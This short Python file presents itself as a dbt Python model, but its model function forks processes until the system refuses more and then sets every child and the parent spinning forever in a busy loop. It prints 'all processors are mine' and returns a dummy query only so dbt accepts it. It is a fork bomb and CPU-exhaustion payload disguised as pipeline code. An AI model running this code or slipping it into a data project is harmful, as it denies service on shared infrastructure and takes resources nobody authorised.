"""Starts as many processes as it is let; then each of them uses all of a processor."""

import os


def model(dbt, session):
    reader, writer = os.pipe()
    try:
        while True:
            if os.fork() == 0:
                os.close(writer)
                os.read(reader, 1)
                burn()
    except OSError:
        print("all processors are mine", flush=True)
        os.close(writer)
    burn()
    return session.sql("select 1 as ok")  # dbt wants one


def burn():
    while True:
        pass
